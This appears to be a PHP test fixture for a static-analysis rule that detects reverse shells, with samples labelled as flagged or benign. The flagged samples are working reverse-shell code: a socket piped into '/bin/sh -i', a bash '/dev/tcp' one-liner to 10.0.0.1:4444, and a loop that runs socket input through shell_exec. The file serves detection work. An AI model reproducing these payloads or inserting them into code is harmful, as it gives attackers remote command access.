<?php

function check($host)
{
    $link = fsockopen($host, 4444);
    // ruleid: execution/reverse-shell-php
    $process = proc_open('/bin/sh -i', [0 => $link, 1 => $link, 2 => $link], $pipes);
    return $process;
}

// ruleid: execution/reverse-shell-php
exec("/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'");

function answer($host)
{
    $link = fsockopen($host, 9001);
    while (!feof($link)) {
        // ruleid: execution/reverse-shell-php
        fwrite($link, shell_exec(fgets($link, 1024)));
    }
}

function banner($host)
{
    $link = fsockopen($host, 25);
    // ok: execution/reverse-shell-php
    return fgets($link, 512);
}

function build()
{
    // ok: execution/reverse-shell-php
    return proc_open('sh tools/build.sh', [], $pipes);
}

// ok: execution/reverse-shell-php
exec("/bin/bash -c 'ls'");
// ok: execution/reverse-shell-php
exec('nc -z localhost 80');
